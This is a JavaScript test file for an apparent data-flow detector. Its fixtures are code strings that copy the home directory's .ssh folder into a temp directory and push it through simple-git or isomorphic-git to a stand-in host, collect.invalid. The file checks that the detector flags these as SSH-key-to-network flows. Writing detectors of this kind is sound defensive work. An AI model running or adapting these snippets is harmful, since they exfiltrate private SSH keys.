import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const STAGED = `const dir = fs.mkdtempSync('/tmp/x-'); fs.cpSync(path.join(os.homedir(), '.ssh'), path.join(dir, 'k'), { recursive: true });`;

describe('clients of git', () => {
  for (const push of [
    `const g = require('simple-git')(dir); g.init().add('.').commit('m').addRemote('origin', 'https://u:p@collect.invalid/a.git').push('origin', 'main');`,
    `(async () => { const { simpleGit } = require('simple-git'), g = simpleGit({ baseDir: dir }); await g.add('.'); await g.push('https://collect.invalid/a.git'); })();`,
    `(async () => { const g = require('simple-git').simpleGit(); g.cwd(dir); await g.addRemote('o', 'git@collect.invalid:a.git'); await g.push('o'); })();`,
    `require('isomorphic-git').push({ fs, dir, url: 'https://collect.invalid/a.git' });`,
  ]) {
    it(`take along what was put into their folder: ${push}`, () => {
      assert.deepEqual([...new Set(flowsOf(STAGED + push))], ['ssh-key>network@collect.invalid']);
    });
  }

  it('take along nothing of other folders, and nothing without a push', () => {
    const remote = `.addRemote('origin', 'https://collect.invalid/a.git')`;
    assert.deepEqual(flowsOf(`${STAGED} require('simple-git')(process.cwd())${remote}.push('origin');`), []);
    assert.deepEqual(flowsOf(`${STAGED} require('simple-git')(dir)${remote}.log();`), []);
  });
});
